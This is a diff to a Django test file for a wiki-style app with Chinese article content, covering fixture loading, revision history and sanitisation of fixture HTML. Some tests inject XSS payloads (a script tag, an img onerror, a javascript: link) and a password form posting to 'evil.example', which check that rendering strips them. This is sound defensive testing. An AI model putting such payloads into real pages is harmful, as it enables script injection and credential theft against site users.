@@ -52,37 +52,85 @@ def test_dump_flush_load_round_trip(client, tmp_path):
     assert page(client) == before
 
 
+def _fixture():
+    return json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
+
+
+def _load(tmp_path, rows, name="fixture.json"):
+    path = tmp_path / name
+    path.write_text(json.dumps(rows, ensure_ascii=False), encoding="utf-8")
+    call_command("loaddata", str(path), verbosity=0, stdout=StringIO())
+
+
+def test_loading_makes_a_fixture_revision_once(client):
+    call_command("loaddata", "siberia", verbosity=0)
+    call_command("loaddata", "siberia", verbosity=0)
+    article = Article.objects.get()
+    assert list(article.revisions.values_list("number", "kind", "author", "summary", "parent")) == [
+        (1, "fixture", "fixture", "载入 fixtures/siberia.json", None)
+    ]
+    assert article.current_revision.text == settings.SEED_PAGE.read_text(encoding="utf-8")
+
+
+def test_a_fixture_cannot_rewrite_a_revision(tmp_path):
+    call_command("loaddata", "siberia", verbosity=0)
+    rows = _fixture()
+    rows[1]["fields"]["text"] = "改寫的歷史"
+    with pytest.raises(Exception, match="revision 1 of 西伯利亞滯留者 exists with another text"):
+        _load(tmp_path, rows)
+    assert Article.objects.get().current_revision.text.startswith("**西伯利亞滯留者**")
+
+
+def test_a_later_revision_in_a_fixture_becomes_current(client, tmp_path):
+    call_command("loaddata", "siberia", verbosity=0)
+    rows = _fixture()
+    rows[1]["fields"] |= {"number": 2, "text": rows[1]["fields"]["text"].replace("值得一提的是", "需要指出的是")}
+    _load(tmp_path, rows)
+    article = Article.objects.get()
+    current = article.current_revision
+    assert (current.number, current.kind, current.parent.number) == (2, "fixture", 1)
+    assert current.size_change == len("需要指出的是".encode()) - len("值得一提的是".encode())
+    assert "需要指出的是" in page(client)
+
+
 def test_fixture_html_is_never_trusted(client, tmp_path):
-    data = json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
-    for row in data:
-        if row["model"] == "articles.section":
-            row["fields"]["html"] = "<script>alert(1)</script>"
-            row["fields"]["source"] += '\n\n<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>'
-    hostile = tmp_path / "hostile.json"
-    hostile.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
-    call_command("loaddata", str(hostile), verbosity=0, stdout=StringIO())
+    rows = _fixture()
+    rows[0]["fields"]["lead_html"] = "<script>alert(1)</script>"
+    rows[1]["fields"]["text"] += '\n\n<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>'
+    rows.append(
+        {
+            "model": "articles.section",
+            "fields": {"article": ["西伯利亞滯留者"], "order": 9, "heading": "x", "anchor": "x", "html": "<script>"},
+        }
+    )
+    _load(tmp_path, rows)
     body = page(client)
     assert "<script>alert" not in body and "onerror" not in body and "javascript:" not in body
+    assert not Article.objects.get().sections.filter(order=9).exists()  # rows are derived from the text
 
 
 def test_fixture_html_never_stays_even_when_an_article_cannot_be_rendered(client, tmp_path, monkeypatch):
     from articles.preparing import DERIVATION_VERSION
     from references.models import Reference
 
-    data = json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
-    for row in data:
-        if row["model"] == "references.reference":
-            row["fields"]["html"] = '<form action="//evil.example"><input name="password"></form>'
-        if row["model"] == "articles.article":
-            row["fields"]["derived_with"] = DERIVATION_VERSION  # a claim render_articles must not believe
-    hostile = tmp_path / "hostile.json"
-    hostile.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
+    rows = _fixture()
+    rows[0]["fields"]["derived_with"] = DERIVATION_VERSION  # a claim render_articles must not believe
+    rows.append(
+        {
+            "model": "references.reference",
+            "fields": {
+                "article": ["西伯利亞滯留者"],
+                "number": 1,
+                "html": '<form action="//evil.example"><input name="password"></form>',
+            },
+        }
+    )
 
     def fail(self):
         raise RuntimeError("cannot render")
 
     monkeypatch.setattr(Article, "render", fail)
-    call_command("loaddata", str(hostile), verbosity=0, stdout=StringIO())
+    _load(tmp_path, rows)
     assert set(Reference.objects.values_list("html", flat=True)) == {""}
     assert list(Article.objects.derived_before().values_list("title", flat=True)) == ["西伯利亞滯留者"]
 
@@ -90,13 +138,12 @@ def test_fixture_html_never_stays_even_when_an_article_cannot_be_rendered(client
 def test_sections_loaded_alone_leave_their_article_to_render_articles_when_its_render_fails(tmp_path, monkeypatch):
     call_command("loaddata", "siberia", verbosity=0)
     assert not Article.objects.derived_before().exists()
-    data = json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
-    sections = tmp_path / "sections.json"
-    sections.write_text(json.dumps([row for row in data if row["model"] == "articles.section"]), encoding="utf-8")
+    dump = tmp_path / "sections.json"
+    call_command("dumpdata", "articles.section", natural_foreign=True, output=str(dump), verbosity=0)
 
     def fail(self):
         raise RuntimeError("cannot render")
 
     monkeypatch.setattr(Article, "render", fail)
-    call_command("loaddata", str(sections), verbosity=0, stdout=StringIO())
+    call_command("loaddata", str(dump), verbosity=0, stdout=StringIO())
     assert list(Article.objects.derived_before().values_list("title", flat=True)) == ["西伯利亞滯留者"]
